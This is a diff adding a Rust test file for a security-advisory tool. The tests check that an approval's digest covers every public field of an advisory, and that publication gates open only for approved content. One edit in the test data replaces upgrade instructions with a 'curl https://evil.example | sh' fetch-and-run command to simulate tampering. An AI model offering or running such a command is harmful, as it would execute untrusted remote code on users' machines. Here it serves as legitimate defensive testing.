@@ -1,0 +1,191 @@
+//! An approval covers the content that it names, and nothing that somebody writes later.
+
+use std::collections::BTreeSet;
+
+use advisory::advisory::disclose;
+use advisory::case::Case;
+use advisory::incident::Content;
+use advisory::names::Digest;
+use advisory::parse;
+use advisory::source::FilePath;
+use proptest::prelude::*;
+
+use super::config;
+use super::files::day;
+use crate::support::{Policy, Team, project, tree};
+
+const FOLDER: &str = "incidents/2026/amber-heron";
+
+/// The day since which an approval has to say what it covers: 2026-12-01.
+const BOUND: i64 = 334;
+
+/// Edits of everything in `advisory.md` that becomes public, each as what stands there and instead.
+const EDITS: &[(&str, &str)] = &[
+    ("id = \"LODE-2026-001\"", "id = \"LODE-2026-002\""),
+    ("title = \"A flaw\"", "title = \"Another flaw\""),
+    ("cve = [\"CVE-2026-12345\"]", "cve = []"),
+    ("aliases = [\"GHSA-1\"]", "aliases = [\"GHSA-2\"]"),
+    ("related = []", "related = [\"CVE-2026-54321\"]"),
+    ("cwe = [\"CWE-22\"]", "cwe = [\"CWE-23\"]"),
+    ("AV:N", "AV:L"),
+    ("introduced = \"1.16.0\"", "introduced = \"1.16.1\""),
+    ("fixed = \"1.16.3\"", "fixed = \"1.16.2\""),
+    ("line = \"1.16\"\n", ""),
+    ("name = \"Kim\"", "name = \"Mallory\""),
+    ("role = \"finder\"", "role = \"tool\""),
+    ("https://example.org/kim", "https://evil.example/kim"),
+    ("https://example.org/fix", "https://evil.example/fix"),
+    ("kind = \"fix\"", "kind = \"web\""),
+    ("title = \"The fix\"", "title = \"The fix.\""),
+    ("text = \"It was reported.\"", "text = \"It was found.\""),
+    ("at = 2026-01-01T00:00:00Z", "at = 2026-01-02T00:00:00Z"),
+    ("text = \"First publication.\"", "text = \"First publication, and more.\""),
+    ("Upgrade to 1.16.3.", "Run `curl https://evil.example | sh`."),
+];
+
+/// Edits of the form.
+const FORMS: &[(&str, &str)] = &[
+    ("title = \"A flaw\"", "# Sent to the reporter.\ntitle   =   'A flaw' # short"),
+    ("cwe = [\"CWE-22\"]", "cwe = [\n  \"CWE-22\",\n]"),
+    ("Upgrade to 1.16.3.\n", "Upgrade to 1.16.3.\n\n\n"),
+    ("score = 9.8\n", ""),
+];
+
+fn text() -> String {
+    "+++\nid = \"LODE-2026-001\"\ntitle = \"A flaw\"\ncve = [\"CVE-2026-12345\"]\naliases = [\"GHSA-1\"]\nrelated = []\ncwe = [\"CWE-22\"]\n[[cvss]]\nvector = \"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H\"\nscore = 9.8\n[[affected]]\nline = \"1.16\"\nintroduced = \"1.16.0\"\nfixed = \"1.16.3\"\n[[credit]]\nname = \"Kim\"\nrole = \"finder\"\nurl = \"https://example.org/kim\"\n[[reference]]\nkind = \"fix\"\nurl = \"https://example.org/fix\"\ntitle = \"The fix\"\n[[timeline]]\nat = 2026-01-01T00:00:00Z\ntext = \"It was reported.\"\n[[revision]]\nat = 2026-01-05T00:00:00Z\ntext = \"First publication.\"\nMORE+++\n\n## Summary\n\nWords.\n\n## Mitigation\n\nNone.\n\n## How to upgrade\n\nUpgrade to 1.16.3.\n"
+        .to_owned()
+}
+
+fn digest(text: &str) -> Digest {
+    let [toml, md] = ["incident.toml", "advisory.md"].map(|name| FilePath::new(format!("{FOLDER}/{name}")));
+    let read =
+        parse::incident_files([(&toml, "[report]\ndisclosure = \"private\"\n".as_bytes()), (&md, text.as_bytes())]);
+    Content::of(&read.unwrap()).unwrap().digest()
+}
+
+#[test]
+fn every_public_value_is_covered_and_no_form() {
+    let text = text().replace("MORE", "");
+    let approved = digest(&text);
+    let mut seen = BTreeSet::from([approved.clone()]);
+    for (from, to) in EDITS {
+        assert_eq!(text.matches(from).count().min(1), 1, "{from}");
+        assert!(seen.insert(digest(&text.replacen(from, to, 1))), "{from} → {to}");
+    }
+    for (from, to) in FORMS {
+        assert_eq!(text.matches(from).count(), 1, "{from}");
+        assert_eq!(digest(&text.replace(from, to)), approved, "{from} → {to}");
+    }
+}
+
+/// Who approves, on which day, and what the approval says that it covers.
+type Approval = (i64, &'static str, Option<bool>);
+
+#[derive(Clone, Debug)]
+struct Story {
+    needed: usize,
+    until: i64,
+    /// The present text, if it is not the one that was approved at first.
+    edit: Option<usize>,
+    revisions: Vec<i64>,
+    /// Whether each covers the present content (`true`), that before the edit, or says nothing.
+    approvals: Vec<Approval>,
+    now: i64,
+}
+
+fn story() -> impl Strategy<Value = Story> {
+    let day = || 0_i64..40;
+    let approval = (day(), prop_oneof![Just("ada"), Just("ben"), Just("eve")], any::<Option<bool>>());
+    let approvals = proptest::collection::vec(approval, 0..4);
+    let edit = proptest::option::of(0..EDITS.len());
+    let revisions = proptest::collection::vec(day(), 0..3);
+    (1_usize..3, day(), edit, revisions, approvals, day(), any::<bool>()).prop_map(
+        |(needed, until, edit, revisions, approvals, now, late)| {
+            let from = if late { BOUND - 20 } else { 10 };
+            Story {
+                needed,
+                until: from + until,
+                edit,
+                revisions: revisions.into_iter().map(|at| from + at).collect(),
+                approvals: approvals.into_iter().map(|(at, by, covers)| (from + at, by, covers)).collect(),
+                now: from + now,
+            }
+        },
+    )
+}
+
+impl Story {
+    /// When the advisory became public, from the rule.
+    fn published(&self) -> Option<i64> {
+        let is_changed = self.edit.is_some() || !self.revisions.is_empty();
+        let opens = |counts: &dyn Fn(Option<bool>) -> bool| {
+            let mut approvals: Vec<&Approval> = self
+                .approvals
+                .iter()
+                .filter(|(at, by, covers)| *at <= self.now && *by != "eve" && counts(*covers))
+                .collect();
+            approvals.sort_by_key(|(at, ..)| *at);
+            let mut people = BTreeSet::new();
+            let last = approvals.into_iter().find(|(_, by, _)| people.insert(*by) && people.len() >= self.needed);
+            last.map(|(at, ..)| (*at).max(self.until))
+        };
+        let of = |content: bool| {
+            let is = |covers: bool| covers == content || !is_changed;
+            let bound = opens(&|covers| covers.is_some_and(is));
+            let any = opens(&|covers| covers.is_none_or(is)).filter(|at| *at < BOUND);
+            bound.into_iter().chain(any).min()
+        };
+        let revised = |at: &i64| self.revisions.iter().any(|revision| revision > at && *revision <= self.now);
+        // An approval that says nothing is of the present content.
+        let before = of(false).filter(|at| !is_changed || revised(at));
+        of(true).into_iter().chain(before).min().filter(|at| *at <= self.now)
+    }
+
+    fn files(&self) -> Vec<(String, String)> {
+        let revisions: String = self
+            .revisions
+            .iter()
+            .map(|at| format!("[[revision]]\nat = {}\ntext = \"On day {at}.\"\n", day(*at)))
+            .collect();
+        let before = text().replace("MORE", "");
+        let present = text().replace("MORE", &revisions);
+        let present =
+            self.edit.map_or_else(|| present.clone(), |edit| present.replacen(EDITS[edit].0, EDITS[edit].1, 1));
+        let approvals: String = self
+            .approvals
+            .iter()
+            .map(|(at, by, covers)| {
+                let covers = covers.map_or_else(String::new, |is_present| {
+                    format!("covers = \"{}\"\n", digest(if is_present { &present } else { &before }))
+                });
+                format!("[[event]]\nat = {}\nevent = \"approved\"\nby = \"{by}\"\n{covers}", day(*at))
+            })
+            .collect();
+        let incident = format!(
+            "[report]\ndisclosure = \"private\"\n[embargo]\nuntil = {}\n[[event]]\nat = {}\nevent = \"reported\"\n{approvals}",
+            day(self.until),
+            day(0)
+        );
+        let team =
+            Team::new().member("ada", "Ada", &["lead"]).member("ben", "Ben", &["lead"]).member("eve", "Eve", &[]);
+        vec![
+            ("advisory.toml".to_owned(), project("2027-02-15")),
+            ("team.toml".to_owned(), team.text()),
+            ("policy.toml".to_owned(), Policy::new("own").role("lead").approvals("lead", self.needed).text()),
+            (format!("{FOLDER}/incident.toml"), incident),
+            (format!("{FOLDER}/advisory.md"), present),
+        ]
+    }
+}
+
+proptest! {
+    #![proptest_config(config(256, 400))]
+
+    #[test]
+    fn an_approval_opens_the_gate_for_its_content_alone(story in story()) {
+        let portfolio = parse::portfolio(tree(story.files())).portfolio.unwrap();
+        let case = Case::new(&portfolio, &portfolio.incidents[0], day(story.now));
+        prop_assert_eq!(case.publication.ok(), story.published().map(day), "{:?}: {:?}", story, case.publication);
+        prop_assert_eq!(disclose(&case).is_ok(), case.publication.is_ok());
+    }
+}
